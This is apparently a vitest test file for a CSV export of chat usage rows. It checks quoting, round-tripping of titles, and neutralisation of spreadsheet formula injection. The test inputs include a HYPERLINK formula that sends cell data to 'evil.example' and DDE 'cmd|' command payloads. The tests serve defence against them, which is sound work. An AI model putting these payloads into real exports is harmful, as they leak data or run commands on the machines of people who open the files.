import { describe, expect, test } from 'vitest';
import type { ChatId } from '#lib/protocol/ids.ts';
import { toCsv } from './usage-csv.ts';
import type { UsageRow } from './usage-rows.ts';

const row: UsageRow = {
  ...{ day: '2026-11-28', chatId: 'c1' as ChatId, chatTitle: 'Salt', model: 'm', answers: 2 },
  ...{ input: 1_200, cached: 100, output: 300, reasoning: 20, cost: 0.0000012, isEstimated: false },
};

/** Reads RFC 4180 as a program does. */
function parse(csv: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let field = '';
  let quoted = false;
  for (let index = 0; index < csv.length; index++) {
    const [character, next] = [csv[index], csv[index + 1]];
    if (quoted && character === '"' && next === '"') {
      field += '"';
      index++;
    } else if (character === '"' && (quoted || field === '')) quoted = !quoted;
    else if (!quoted && character === separator) {
      rows.at(-1)?.push(field);
      field = '';
    } else if (!quoted && character === '\r' && next === '\n') {
      rows.at(-1)?.push(field);
      rows.push([]);
      field = '';
      index++;
    } else field += character;
  }
  return rows.slice(0, -1);
}
const cells = (chatTitle: string, separator?: string) =>
  parse(toCsv([{ ...row, chatTitle }]).slice(1), separator)[1] ?? [];

test('a file has a byte order mark, a header, and a line per row that ends with CRLF', () => {
  expect(toCsv([row, { ...row, cost: 1234.5, isEstimated: true }])).toBe(
    '\ufeffday,chat,chat_id,model,answers,input_tokens,cached_input_tokens,output_tokens,reasoning_tokens,estimated,cost\r\n' +
      '2026-11-28,"Salt","c1","m",2,1200,100,300,20,no,0.0000012\r\n' +
      '2026-11-28,"Salt","c1","m",2,1200,100,300,20,yes,1234.5\r\n',
  );
  const { cost: _, ...free } = row;
  expect(
    toCsv([free, { ...row, cost: 0 }])
      .split('\r\n')
      .slice(1, 3),
  ).toEqual([expect.stringMatching(/,no,$/), expect.stringMatching(/,no,0$/)]);
});

test.each(['', 'a, b', 'say "no"', '"', 'one\r\ntwo', '涓流 🙂', 'a - b', '3 = 3', "it's"])(
  'the title %j comes back as it was',
  (title) => {
    expect(cells(title)).toHaveLength(11);
    expect(cells(title)[1]).toBe(title);
  },
);

describe('a spreadsheet program', () => {
  test.each([
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '+1+cmd|’/C calc’!A0',
    '-2+3',
    '@SUM(1+1)',
    '＝1+1',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\tx',
  ])('takes the title %j for a text', (title) => {
    expect(cells(title)[1]).toBe(`'${title}`.replace(/([;\t\r\n]\s*)(?==)/g, "$1'"));
  });

  test.each([
    [';', 'a;=1+1'],
    [';', 'a; \t=cmd|x;@SUM(1)'],
    ['\t', 'a\t=1+1'],
  ])('that separates cells by %j finds no formula in them either', (separator, title) => {
    const found = cells(title, separator);
    expect(found.length).toBeGreaterThan(1);
    for (const cell of found) expect(cell).not.toMatch(/^\s*[=+\-@]/);
  });

  test('takes the name of a model for a text, too', () => {
    const csv = parse(toCsv([{ ...row, model: '@cf/meta/llama' }]).slice(1));
    expect(csv[1]?.[3]).toBe("'@cf/meta/llama");
  });
});
